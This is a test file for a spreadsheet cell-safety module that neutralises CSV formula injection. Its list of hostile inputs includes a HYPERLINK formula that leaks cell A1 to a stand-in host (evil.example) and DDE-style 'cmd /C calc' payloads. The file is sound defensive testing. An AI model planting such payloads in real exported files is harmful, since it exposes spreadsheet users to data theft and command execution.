import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parseCsv } from '../../../main/core/catalog/csv';
import { csvField, looksLikeFormula, neutraliseCell, toCsv } from '../../../main/core/spreadsheet/cell-safety';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
];

test('every string a spreadsheet would run as a formula gets a leading apostrophe', () => {
  for (const s of HOSTILE) {
    assert.equal(looksLikeFormula(s), true, s);
    assert.equal(neutraliseCell(s), `'${s}`);
    assert.equal(looksLikeFormula(neutraliseCell(s)), false);
  }
});

test('ordinary text, including text with = inside, is left alone', () => {
  for (const s of ['Yes', 'a = b', 'TLS 1.2+', '', '<script>alert(1)</script>', 'e-mail']) assert.equal(neutraliseCell(s), s);
});

test('CSV output is neutralised, quoted where needed and parses back to the same cells', () => {
  const rows = [
    ['F-001', 'Comma, "quote" and\nline break', 3],
    ['F-002', '=1+1', null],
  ];
  const csv = toCsv(['ref', 'title', 'score'], rows);
  assert.equal(csvField('=1+1'), "'=1+1");
  const parsed = parseCsv(csv, ',').records.map((r) => r.cells);
  assert.deepEqual(parsed[0], ['ref', 'title', 'score']);
  assert.deepEqual(parsed[1], ['F-001', 'Comma, "quote" and\nline break', '3']);
  assert.deepEqual(parsed[2], ['F-002', "'=1+1", '']);
});
